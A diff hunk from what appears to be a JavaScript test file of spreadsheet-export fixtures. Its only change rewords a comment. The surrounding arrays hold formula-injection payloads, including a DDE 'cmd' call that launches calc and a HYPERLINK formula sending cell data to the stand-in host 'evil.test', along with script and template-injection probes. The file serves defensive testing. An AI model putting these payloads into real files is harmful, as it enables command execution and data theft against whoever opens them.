@@ -8,7 +8,7 @@ const bodies = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.test?x="&A
 /** Where a program that separates otherwise, or breaks a line within a text, begins a cell. */
 const breaks = ['a;', 'a\t', 'a,', 'a|', 'a\n', 'a\r\n', 'a\r', 'a";"', 'a","', 'a\n"', 'a; ', 'a;\u200B', `a;'`]
 
-/** What careless readers spoil, though nobody calculates it. */
+/** What careless readers spoil, though no program calculates it. */
 const fragile = [
   '0012', '1e5', '1,5', 'TRUE', '2026-03-01', '#N/A', '#REF!', '_x0041_', '_x005F_x0041_', '_x000D_', '<script>alert(1)</script>', '&amp;<b>', ']]>', '{{7*7}}', '%s', '\\', `'`, `'plain`,
   '😀 👩‍👩‍👧‍👦', 'مرحبا', 'テスト', 'two\nlines', 'a\r\nb', '-', '=', '--', '- one\n- two', ' leading', 'trailing ', '"quoted"', '""', 'a"b', 'x'.repeat(4_000), '=A'.repeat(500),
